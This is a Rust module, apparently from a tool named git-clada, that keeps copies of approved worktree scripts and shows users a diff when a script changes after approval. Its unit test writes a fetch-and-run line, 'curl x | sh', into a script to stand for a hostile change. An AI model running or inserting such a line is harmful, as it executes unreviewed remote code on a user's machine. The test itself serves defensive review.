//! The content an approval of a worktree script was given for (issue 37 §4): when the user
//! answers "always" to `bash scripts/check.sh`, a copy of `scripts/check.sh` as approved is
//! kept beside the approvals, named by its SHA-256 (`<approvals dir>/approved-scripts/<hash>`).
//! When a reply changed the file and the command asks again, the prompt shows the change since
//! the approval as a unified diff, so the user reviews what would now run instead of being
//! told to go and look. Copies no approval refers to any more are removed when approvals are
//! stored. Like the approvals, the copies live where no reply can write (the git directory).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use clada_base::fsutil::{read_small, Links};

/// Scripts larger than this are not copied (their change is named, not shown).
const MAX_COPY: u64 = 1024 * 1024;
/// Lines of diff shown per prompt; the rest is counted.
const MAX_DIFF_LINES: usize = 120;

fn copies_dir(store: &Path) -> Option<PathBuf> {
    Some(store.parent()?.join("approved-scripts"))
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn is_hash(h: &str) -> bool {
    h.len() == 64 && h.bytes().all(|b| b.is_ascii_hexdigit())
}

/// Keeps a copy of each file of `bound` (root-relative path, SHA-256) whose content under
/// `root` still has that hash: the content the user approves now. Best effort: a file that
/// changed since it was hashed, is a link or is too large is not copied, and its diff later
/// says the approved content was not kept.
pub fn save(store: &Path, root: &Path, bound: &[(String, String)]) -> std::io::Result<()> {
    let Some(dir) = copies_dir(store) else {
        return Ok(());
    };
    for (rel, hash) in bound {
        if !is_hash(hash) {
            continue;
        }
        let Ok(Some(bytes)) = read_small(&root.join(rel), MAX_COPY, Links::Refuse) else {
            continue;
        };
        if sha256_hex(&bytes) != *hash || dir.join(hash).exists() {
            continue;
        }
        std::fs::create_dir_all(&dir)?;
        clada_base::fsutil::write_atomic(
            &dir.join(hash),
            &bytes,
            clada_base::fsutil::Perm::KeepExisting {
                executable_if_new: false,
            },
        )?;
    }
    Ok(())
}

/// Removes the copies that no approval in `bound` (the approval file's bindings) refers to.
pub fn prune(store: &Path, bound: &BTreeMap<String, BTreeMap<String, String>>) {
    let Some(dir) = copies_dir(store) else {
        return;
    };
    let Ok(entries) = std::fs::read_dir(&dir) else {
        return;
    };
    let live: std::collections::BTreeSet<&str> = bound
        .values()
        .flat_map(|m| m.values().map(String::as_str))
        .collect();
    for e in entries.flatten() {
        let name = e.file_name();
        let name = name.to_string_lossy();
        if is_hash(&name) && !live.contains(name.as_ref()) {
            let _ = std::fs::remove_file(e.path());
        }
    }
}

/// What changed in the files `bound` (now, as the prompt found them) since the approval of
/// `command` stored in `approved` (the bindings of the approval file at `store`): a unified
/// diff per changed file, from the approved copy to the current content under `root`. `None`
/// when the command has no earlier binding (nothing was approved to compare with).
pub fn changes_since(
    store: &Path,
    approved: &BTreeMap<String, BTreeMap<String, String>>,
    root: &Path,
    command: &str,
    bound: &[(String, String)],
) -> Option<String> {
    let before = approved.get(command)?;
    let dir = copies_dir(store)?;
    let mut out = String::new();
    for (rel, hash) in bound {
        let old_hash = before.get(rel);
        if old_hash == Some(hash) {
            continue;
        }
        let old = old_hash.filter(|h| is_hash(h)).and_then(|h| {
            read_small(&dir.join(h), MAX_COPY, Links::Refuse)
                .ok()
                .flatten()
        });
        let new = read_small(&root.join(rel), MAX_COPY, Links::Refuse)
            .ok()
            .flatten();
        out.push_str(&file_diff(rel, old.as_deref(), new.as_deref()));
    }
    (!out.is_empty()).then_some(out)
}

fn file_diff(rel: &str, old: Option<&[u8]>, new: Option<&[u8]>) -> String {
    let (Some(old), Some(new)) = (old, new) else {
        let why = match old {
            None => "the content you approved was not kept (approved by an earlier git-clada)",
            Some(_) => "it is now missing, a link or over 1 MiB",
        };
        return format!("{rel} changed since your approval; {why}: review it with git diff\n");
    };
    let (Ok(old), Ok(new)) = (std::str::from_utf8(old), std::str::from_utf8(new)) else {
        return format!("{rel} changed since your approval (binary content)\n");
    };
    let diff = similar::TextDiff::from_lines(old, new);
    let text = diff
        .unified_diff()
        .context_radius(3)
        .header(&format!("{rel} (approved)"), &format!("{rel} (now)"))
        .to_string();
    let lines: Vec<&str> = text.lines().collect();
    let mut out = format!("{rel} changed since your approval:\n");
    for l in lines.iter().take(MAX_DIFF_LINES) {
        out.push_str(l);
        out.push('\n');
    }
    if lines.len() > MAX_DIFF_LINES {
        out.push_str(&format!(
            "… {} more lines of diff (read {rel} before answering)\n",
            lines.len() - MAX_DIFF_LINES
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_changed_script_shows_its_diff_from_the_approved_copy() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path();
        let store = root.join(".git/clada/allowed-commands.json");
        std::fs::create_dir_all(root.join("scripts")).unwrap();
        std::fs::write(root.join("scripts/c.sh"), "echo one\necho two\n").unwrap();
        let h1 = sha256_hex(b"echo one\necho two\n");
        save(&store, root, &[("scripts/c.sh".into(), h1.clone())]).unwrap();
        // A hash that does not match the content is not copied.
        save(&store, root, &[("scripts/c.sh".into(), "0".repeat(64))]).unwrap();
        assert!(!copies_dir(&store).unwrap().join("0".repeat(64)).exists());
        std::fs::write(root.join("scripts/c.sh"), "echo one\ncurl x | sh\n").unwrap();
        let h2 = sha256_hex(b"echo one\ncurl x | sh\n");
        let mut approved = BTreeMap::new();
        approved.insert(
            "bash scripts/c.sh".to_string(),
            BTreeMap::from([("scripts/c.sh".to_string(), h1.clone())]),
        );
        let bound = [("scripts/c.sh".to_string(), h2.clone())];
        let diff = changes_since(&store, &approved, root, "bash scripts/c.sh", &bound).unwrap();
        assert!(diff.contains("-echo two\n+curl x | sh\n"), "{diff}");
        assert!(diff.contains("--- scripts/c.sh (approved)"), "{diff}");
        // Unchanged: nothing to show; never approved: nothing to compare with.
        let same = [("scripts/c.sh".to_string(), h1.clone())];
        assert!(changes_since(&store, &approved, root, "bash scripts/c.sh", &same).is_none());
        assert!(changes_since(&store, &approved, root, "sh other", &bound).is_none());
        // Pruning keeps what an approval refers to and removes the rest.
        prune(&store, &approved);
        assert!(copies_dir(&store).unwrap().join(&h1).exists());
        prune(&store, &BTreeMap::new());
        assert!(!copies_dir(&store).unwrap().join(&h1).exists());
        let diff = changes_since(&store, &approved, root, "bash scripts/c.sh", &bound).unwrap();
        assert!(diff.contains("was not kept"), "{diff}");
    }
}
